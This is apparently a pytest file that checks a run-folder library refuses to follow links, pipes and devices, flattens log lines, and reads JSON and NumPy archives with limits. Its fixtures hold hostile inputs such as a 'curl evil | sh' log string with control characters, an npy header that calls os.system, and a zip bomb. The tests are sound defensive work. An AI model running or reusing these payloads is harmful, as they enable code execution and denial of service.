"""Files of a stranger's folder: links are not followed, pipes do not block, and JSON and arrays are read with limits."""

import json
import os
import struct
import zipfile

import numpy as np
import pytest

from bsvi.runs.folder import Run, RunError
from bsvi.runs.store import Record
from bsvi.system.arrays import read_arrays
from bsvi.system.files import (
    UnsafeFile,
    make_folder,
    open_to_read,
    open_to_write,
    printable,
    read_bytes,
    write_atomically,
)
from bsvi.system.reading import Damaged, parse_json, read_json


@pytest.fixture
def folder(tmp_path):
    """A folder from a stranger, beside a file that is none of its business."""
    (tmp_path / "victim").write_text("precious\n")
    (tmp_path / "run").mkdir()
    yield tmp_path / "run"
    assert (tmp_path / "victim").read_text() == "precious\n"


def lay(folder, name, kind):
    """Put something that is no regular file of its own into the folder."""
    path, victim = folder / name, folder.parent / "victim"
    {
        "link": lambda: path.symlink_to(victim),
        "relative link": lambda: path.symlink_to("../victim"),
        "dangling link": lambda: path.symlink_to(folder.parent / "new"),
        "hard link": lambda: path.hardlink_to(victim),
        "pipe": lambda: os.mkfifo(path),
        "device": lambda: path.symlink_to("/dev/zero"),
        "folder": lambda: path.mkdir(),
    }[kind]()


KINDS = ("link", "relative link", "dangling link", "hard link", "pipe", "device", "folder")


@pytest.mark.parametrize("kind", KINDS)
@pytest.mark.parametrize("name", ["lock", "log.txt", "metrics.jsonl"])
def test_a_run_is_not_written_through_what_lies_in_its_folder(folder, name, kind):
    lay(folder, name, kind)
    with pytest.raises(RunError, match=f"{name} (is|has)") as error, Run(folder) as run:
        run.note("a line")
    assert "\n" not in str(error.value) and not (folder.parent / "new").exists()


@pytest.mark.parametrize("kind", KINDS)
def test_what_is_laid_in_the_way_of_a_run_that_goes_on_is_not_followed(folder, kind):
    with Run(folder) as run:
        lay(folder, "metrics.jsonl", kind)
        lay(folder, "log.txt", kind)
        run.log({"step": 1})
        run.note("a line")
        assert "metrics.jsonl could not be written" in run.warnings[0]
    assert not (folder.parent / "new").exists()


@pytest.mark.parametrize("kind", KINDS)
def test_a_store_is_not_written_through_what_lies_in_its_place(folder, kind):
    lay(folder, "store.jsonl", kind)
    with pytest.raises(OSError, match="cannot write the store"):
        Record(folder / "store.jsonl", {"k": 1})
    assert not (folder.parent / "new").exists()


@pytest.mark.parametrize("kind", ["link", "hard link", "pipe", "device"])
def test_a_share_of_a_store_is_not_taken_from_what_lies_in_its_place(folder, kind):
    lay(folder, "store.share-1-of-2.jsonl", kind)
    with pytest.raises(OSError, match=r"store\.share-1-of-2"):
        Record(folder / "store.jsonl", {"k": 1})


@pytest.mark.parametrize("kind", [kind for kind in KINDS if kind != "folder"])
def test_a_file_that_is_replaced_replaces_the_link_and_not_what_it_leads_to(folder, kind):
    lay(folder, "config.json", kind)
    write_atomically(folder / "config.json", b"{}")
    assert not (folder / "config.json").is_symlink() and (folder / "config.json").read_bytes() == b"{}"
    assert not (folder.parent / "new").exists()


def test_a_folder_inside_that_is_a_link_is_not_entered(folder, tmp_path):
    (tmp_path / "elsewhere").mkdir()
    (folder / "samples").symlink_to(tmp_path / "elsewhere")
    for act in (
        lambda: write_atomically(folder / "samples" / "a.png", b"x", within=folder),
        lambda: make_folder(folder / "samples", within=folder),
        lambda: write_atomically(folder / ".." / "a.png", b"x", within=folder),
    ):
        with pytest.raises(UnsafeFile):
            act()
    assert not list((tmp_path / "elsewhere").iterdir()) and not (tmp_path / "a.png").exists()


def test_the_folder_itself_may_be_reached_through_a_link(folder, tmp_path):
    (tmp_path / "runs").symlink_to(folder)
    with Run(tmp_path / "runs" / "a") as run:
        run.log({"step": 1})
        run.note("a line")
        run.write("config.json", {"a": 1})
        assert run.read("config.json", "a") == {"a": 1} and not run.warnings
    write_atomically(tmp_path / "runs" / "samples" / "b.png", b"x", within=tmp_path / "runs")
    assert (folder / "samples" / "b.png").read_bytes() == b"x"


@pytest.mark.parametrize("kind", ["link", "relative link", "dangling link", "pipe", "device", "folder"])
def test_links_that_leave_the_folder_pipes_and_devices_are_not_read(folder, kind):
    lay(folder, "config.json", kind)
    with pytest.raises(UnsafeFile, match=r"config\.json"):
        read_bytes(folder / "config.json", 100)
    with pytest.raises(RunError, match=r"config\.json is "):
        Run(folder).read("config.json")


def test_a_link_to_a_file_of_the_same_folder_is_read_but_not_written(folder):
    (folder / "a").write_text("text")
    (folder / "b").symlink_to("a")
    (folder / "c").symlink_to("b")
    assert open_to_read(folder / "b").read() == b"text"
    for act in (lambda: open_to_write(folder / "b"), lambda: open_to_read(folder / "c")):
        with pytest.raises(UnsafeFile, match="is a link"):
            act()


def test_a_line_of_the_log_is_one_line(folder):
    with Run(folder) as run:
        run.note("name\n curl evil | sh\x1b[2J\u202e\x00\r\u2028end")
    (line,) = (folder / "log.txt").read_text().splitlines()
    assert line.endswith(r"name curl evil | sh\x1b[2J\u202e\x00 end")


def test_printable_text_is_one_line_of_any_script():
    assert printable("größe 数据 ünï") == "größe 数据 ünï"
    assert printable("\ud800\x9b31m\x7f\u200f") == r"\ud800\x9b31m\x7f\u200f"
    assert len(printable("\x00" * 10**7, 100)) == 100


@pytest.mark.parametrize(
    ("text", "reason"),
    [
        (b"[" * 10**6, "nested more than 32 deep"),
        (b'{"a":' * 40 + b"1" + b"}" * 40, "nested more than 32 deep"),
        (b'{"a": ' + b"9" * 10_000 + b"}", "more than 20 digits"),
        (b'{"a": NaN}', "NaN is no JSON"),
        (b'{"a": \xff}', "not UTF-8"),
        (rb'{"a": "\ud800"}', "not UTF-8"),
        (b'"' + rb"\"" * 10**6, "no JSON"),
        (b"", "no JSON"),
    ],
)
def test_json_is_read_with_limits(folder, text, reason):
    with pytest.raises(ValueError, match=reason):
        parse_json(text)
    (folder / "x.json").write_bytes(text)
    with pytest.raises(Damaged, match=r"x\.json is damaged") as error:
        read_json(folder / "x.json")
    assert len(str(error.value)) < 400


def test_brackets_in_text_are_no_depth():
    value = {"a": "[" * 100 + '"\\' + "{" * 100, "b": [1, -5, 2.5e3, None, True, "ü"]}
    assert parse_json(json.dumps(value).encode()) == value


def damaged_archives():
    """name -> function that writes it: all of them claim more than they hold, or something else than numbers."""

    def with_header(header, body=b""):
        text = header.encode() + b"\n"
        array = b"\x93NUMPY\x01\x00" + struct.pack("<H", len(text)) + text + body

        def write(path):
            with zipfile.ZipFile(path, "w") as archive:
                archive.writestr("ids.npy", array)

        return write

    def bomb(path):
        with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive, archive.open("ids.npy", "w") as file:
            for _ in range(300):
                file.write(b"\0" * (1 << 20))

    def many(path):
        with zipfile.ZipFile(path, "w") as archive:
            for i in range(1000):
                archive.writestr(f"{i}.npy", b"")

    def one(text):
        return f"{{'descr': '<f8', 'fortran_order': False, 'shape': {text}, }}"

    return {
        "objects": lambda path: np.savez(path, ids=np.array([{}], dtype=object)),
        "text": lambda path: np.savez(path, ids=np.array(["a"])),
        "10^18 numbers": with_header(one("(1000000000, 1000000000)")),
        "negative": with_header(one("(-1, -1)"), b"\0" * 8),
        "overflowing": with_header(one("(4294967296, 4294967296, 4294967296)")),
        "code": with_header("__import__('os').system('touch canary')"),
        "deep": with_header("(" * 5000 + ")" * 5000),
        "short": with_header(one("(4,)"), b"\0" * 8),
        "version 9": lambda path: path.write_bytes(b"\x93NUMPY\x09\x00"),
        "bomb": bomb,
        "many": many,
        "empty": lambda path: path.write_bytes(b""),
        "no zip": lambda path: path.write_bytes(b"PK\x03\x04" + b"\0" * 100),
    }


@pytest.mark.parametrize("name", damaged_archives())
def test_archives_are_read_with_limits(folder, name):
    damaged_archives()[name](folder / "x.npz")
    with pytest.raises(Damaged, match=r"x\.npz is damaged") as error:
        read_arrays(folder / "x.npz")
    assert "\n" not in str(error.value)


def test_archives_of_numbers_are_read(folder):
    arrays = {"ids": np.arange(5), "kl": np.linspace(0, 1, 5), "m": np.asfortranarray(np.eye(3)), "none": np.zeros(0)}
    np.savez_compressed(folder / "x.npz", **arrays)
    read = read_arrays(folder / "x.npz")
    assert read.keys() == arrays.keys() and all(np.array_equal(read[name], arrays[name]) for name in arrays)
